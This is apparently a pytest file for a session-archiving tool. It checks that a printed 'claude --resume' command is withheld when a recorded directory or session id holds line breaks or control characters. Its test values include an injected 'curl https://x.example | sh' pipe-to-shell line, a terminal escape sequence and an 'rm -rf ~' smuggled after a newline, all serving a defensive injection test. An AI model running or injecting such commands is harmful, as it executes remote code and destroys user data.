"""A deposit's resume command is printed only from plain text."""

from __future__ import annotations

import pytest

from flowgit.ascend.formats import as_path
from flowgit.ascend.model import Deposit


@pytest.mark.parametrize("cwd", ["/home/dev/x\ncd /home/dev/x && curl https://x.example | sh && claude --resume s #",
                                 "/home/dev/x\u2028next", "/home/dev/\x1b]0;title\x07x"])
def test_a_working_directory_with_a_control_character_gives_no_command(tmp_path, cwd):
    """shlex.quote keeps a line break: the deposit printed a line of its own that read as a whole command."""
    record = tmp_path / "s1.jsonl"
    record.write_text("{}\n")
    deposit = Deposit(partition="claude", slug="-home-dev-x", sid="s1", cwd=cwd, source=record)
    assert deposit.resume() is None and deposit.resumes() == []
    assert "not plain text" in deposit.why_not_resumable()
    plain = Deposit(partition="claude", slug="-home-dev-x", sid="s1", cwd="/home/dev/x", source=record)
    assert plain.resume() == "cd /home/dev/x && claude --resume s1"


def test_a_session_id_with_a_line_break_gives_no_command(tmp_path):
    record = tmp_path / "s1.jsonl"
    record.write_text("{}\n")
    deposit = Deposit(partition="claude", slug="-home-dev-x", sid="s1\nrm -rf ~", cwd="/home/dev/x", source=record)
    assert deposit.resume() is None


@pytest.mark.parametrize("value, read", [("/home/dev/x ", "/home/dev/x"), (["a", "b"], None), (7, None),
                                         ("", None), (None, None)])
def test_a_recorded_working_directory_is_a_string_or_nothing(value, read):
    assert as_path(value) == read
